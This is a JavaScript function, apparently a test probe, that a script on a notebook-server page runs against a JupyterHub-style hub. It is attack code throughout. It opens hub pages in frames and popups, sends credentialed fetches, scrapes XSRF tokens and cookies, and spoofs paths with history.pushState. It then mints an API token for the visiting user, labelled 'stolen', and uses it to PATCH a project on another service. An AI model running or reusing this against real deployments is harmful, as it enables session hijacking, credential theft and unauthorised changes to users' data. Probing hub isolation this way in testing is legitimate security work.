/**
 * What a script on a page of somebody's notebook server can try on the hub at an address, and with what it gets there
 * on the pool; answers each try and its result. The last entry tells whether a token of the visitor was made.
 */
async ({ hub, service, visitor }) => {
  const PATIENCE_MS = 2500;
  const got = [];
  const passed = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const tokens = new Set([""]);
  const keep = (how, what) => {
    const text = String(what);
    got.push([how, text.slice(0, 2000)]);
    for (const found of text.matchAll(/(?:_xsrf=|xsrf_token: "|name="_xsrf" value=")([^";]+)/g)) tokens.add(found[1]);
  };

  const frame = document.createElement("iframe");
  frame.src = `${hub}/hub/token`;
  document.body.append(frame);
  const opened = ["/hub/token", "/hub/home", "/hub/api/user"].map((path) => [path, window.open(hub + path)]);
  const shown = passed(PATIENCE_MS);

  for (const path of ["/hub/home", "/hub/token", "/hub/admin", "/hub/api/user"]) {
    for (const mode of ["no-cors", "same-origin", "cors"]) {
      try {
        const answer = await fetch(hub + path, { mode, credentials: "include", headers: { Accept: "text/html" } });
        keep(`fetch ${mode} ${path} ${answer.status}`, await answer.text());
      } catch (error) {
        keep(`fetch ${mode} ${path}`, error.name);
      }
    }
  }

  await shown;
  for (const [how, where] of [["frame", frame.contentWindow], ...opened]) {
    try {
      keep(
        `window ${how}`,
        where && !where.closed ? where.document.documentElement.outerHTML + where.document.cookie : "closed",
      );
    } catch (error) {
      keep(`window ${how}`, error.name);
    }
  }

  const here = location.href;
  for (const path of ["/hub/home", "/hub/"]) {
    history.pushState({}, "", path);
    keep(`cookies at ${path}`, document.cookie);
  }
  history.pushState({}, "", here);

  const made = [];
  for (const token of tokens) {
    for (const mode of ["cors", "same-origin", "no-cors"]) {
      try {
        const answer = await fetch(`${hub}/hub/api/users/${visitor}/tokens`, {
          method: "POST",
          mode,
          credentials: "include",
          headers: { "Content-Type": mode === "no-cors" ? "text/plain" : "application/json", "X-XSRFToken": token },
          body: '{"note": "stolen"}',
        });
        made.push([token, mode, answer.status]);
        if (answer.status === 201) {
          const { token: stolen } = await answer.json();
          const changed = await fetch(`${service}api/v1/projects/joe`, {
            method: "PATCH",
            headers: { "Content-Type": "application/json", Authorization: `token ${stolen}` },
            body: '{"weight": 7}',
          });
          made.push(["project changed", mode, changed.status]);
        }
      } catch (error) {
        made.push([token, mode, error.name]);
      }
    }
  }
  return { got, made, xsrf: tokens.size - 1 };
};
